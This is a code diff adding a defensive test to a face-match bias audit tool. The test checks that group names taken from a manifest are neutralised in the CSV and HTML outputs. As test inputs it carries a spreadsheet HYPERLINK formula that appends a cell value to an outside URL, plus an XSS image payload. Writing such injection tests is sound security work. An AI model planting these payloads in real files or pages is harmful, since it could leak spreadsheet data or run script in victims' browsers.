@@ -2,6 +2,8 @@
 from __future__ import annotations
 
 import base64
+import csv
+import io
 import json
 import re
 
@@ -139,3 +141,22 @@ def test_identity_report_has_error_rates_per_group(tmp_path):
     assert female["false_match_rate"]["value"] == 0.0 and male["false_match_rate"]["value"] == pytest.approx(2 / 40)
     assert numbers["context"]["genuine_trials"] == 80
     assert paths.html.name == "identity_bias_audit.html" and "false_non_match_rate" in paths.html.read_text()
+
+
+def test_manifest_cells_are_text_in_the_rows_csv_and_in_the_html_report(tmp_path):
+    # A group column and its values come from the audit set's manifest: never a formula in the rows a spreadsheet
+    # opens, never markup in the report.
+    link, markup = '=HYPERLINK("http://example.org/?"&A2,"open")', "<img src=x onerror=alert(1)>"
+    trials = pd.DataFrame({
+        "genuine": [True, False] * 40,
+        "score": [0.3, 0.9] * 40,
+        "@group": [link] * 40 + [markup] * 40,
+    })
+    audit = run_identity_audit(trials=trials, threshold=0.5, score_kind="distance", settings=AuditSettings(n_boot=100))
+    paths = write_report(audit, tmp_path)
+    rows = list(csv.reader(io.StringIO(paths.rows.read_text(encoding="utf-8"))))
+    assert "'@group" in rows[0]
+    column = rows[0].index("'@group")
+    assert {row[column] for row in rows[1:]} == {"'" + link, markup}
+    page = paths.html.read_text(encoding="utf-8")
+    assert markup not in page and "&lt;img src=x onerror=alert(1)&gt;" in page
